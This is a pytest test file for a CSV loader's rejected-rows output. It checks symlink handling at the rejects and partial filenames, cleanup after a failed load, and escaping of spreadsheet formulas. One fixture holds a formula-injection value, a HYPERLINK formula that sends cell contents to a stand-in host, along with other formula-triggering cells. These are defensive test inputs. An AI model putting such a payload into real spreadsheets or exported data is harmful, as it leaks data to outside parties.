"""Rejected rows of a lossy load (`skip_invalid`): where they go and what they may not do."""

from __future__ import annotations

import csv

import pytest

import loader
from tests.loading import GOOD_POLL, POLL_HEADER, contents, load, write

BAD_POLLS = POLL_HEADER + GOOD_POLL + "12,actve,2023-01-22 12:09:39 UTC\n"


@pytest.fixture
def inputs(tmp_path):
    folder = tmp_path / "inputs"
    folder.mkdir()
    write(folder / "store_status.csv", BAD_POLLS)
    return folder


@pytest.fixture
def precious(tmp_path):
    """A file someone hopes a link will make the loader overwrite."""
    return write(tmp_path / "precious.txt", "keep me\n")


def test_a_link_at_the_rejects_name_is_replaced_and_its_target_untouched(app, inputs, precious):
    final = inputs / "store_status.rejects.csv"
    final.symlink_to(precious)
    summary = load(app, inputs, skip_invalid=True)
    assert summary.files[0].rejects_path == str(final)
    assert precious.read_text() == "keep me\n"
    assert not final.is_symlink()
    assert "actve" in final.read_text()


def test_a_link_at_the_partial_name_refuses_the_load(app, inputs, precious):
    partial = inputs / "store_status.rejects.csv.part"
    partial.symlink_to(precious)
    before = contents(app)
    with pytest.raises(loader.LoadError) as caught:
        load(app, inputs, skip_invalid=True)
    assert str(caught.value).startswith(f"{partial}: cannot write the rejected rows: this name")
    assert precious.read_text() == "keep me\n"
    assert partial.is_symlink()  # not ours to remove
    assert not (inputs / "store_status.rejects.csv").exists()
    assert contents(app) == before


def test_a_failed_lossy_load_leaves_no_rejects_behind(app, inputs):
    write(inputs / "timezones.csv", "store_id,timezone_str\n1,Asia/Tokyo,extra,fields\n")
    write(inputs / "menu_hours.csv", "not,a,header\n")
    with pytest.raises(loader.LoadError, match=r"menu_hours\.csv"):
        load(app, inputs, skip_invalid=True)
    assert sorted(path.name for path in inputs.iterdir()) == [
        "menu_hours.csv",
        "store_status.csv",
        "timezones.csv",
    ]


def test_rejected_cells_cannot_run_as_spreadsheet_formulas(app, inputs):
    write(
        inputs / "store_status.csv",
        POLL_HEADER + '=HYPERLINK("http://x.example/?"&A1),maybe,2023-01-22 12:00:00 UTC\n'
        "@SUM(A1:A9),active,-1+2\n"
        "7,active,2023-01-22 12:00:00 UTC,+extra\n",
    )
    summary = load(app, inputs, skip_invalid=True)
    with open(summary.files[0].rejects_path, newline="") as handle:
        rejected = list(csv.DictReader(handle))
    assert [row["line"] for row in rejected] == ["4", "2", "3"]  # malformed rows come first
    by_line = {row["line"]: row for row in rejected}
    assert by_line["2"]["store_id"] == '\'=HYPERLINK("http://x.example/?"&A1)'
    assert by_line["2"]["value"] == "maybe"
    assert by_line["3"]["store_id"] == "'@SUM(A1:A9)"
    assert by_line["3"]["timestamp_utc"] == by_line["3"]["value"] == "'-1+2"
    assert by_line["4"]["value"] == "7,active,2023-01-22 12:00:00 UTC,+extra"
    assert by_line["4"]["reason"] == "expected 3 fields, found 4"
